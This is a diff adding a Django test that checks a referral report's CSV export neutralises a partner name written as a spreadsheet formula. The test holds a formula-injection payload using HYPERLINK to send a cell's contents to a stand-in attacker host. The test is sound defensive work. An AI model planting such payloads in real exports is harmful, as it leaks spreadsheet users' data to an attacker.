@@ -335,3 +335,16 @@ def test_a_partner_import_runs_the_same_queries_for_300_rows_as_for_3():
     assert len(many.captured_queries) == len(few.captured_queries)
     assert Partner.objects.filter(name__startswith="Service ").count() == 303
     assert Partner.objects.get(name="Service 299").need_domains.count() == 2
+
+
+def test_a_partner_name_written_as_a_formula_reaches_the_report_csv_as_text(client, active_case, make_referral):
+    case, holder, _ = active_case
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A2, "Open")'
+    make_referral(case, holder, to=PartnerFactory(name=hostile), sent_on=timezone.localdate())
+    client.force_login(FACTORY_BY_ROLE[Role.TEAM_MANAGER]())
+    response = client.get(reverse("referrals:report") + "?format=csv")
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][0] == "'" + hostile
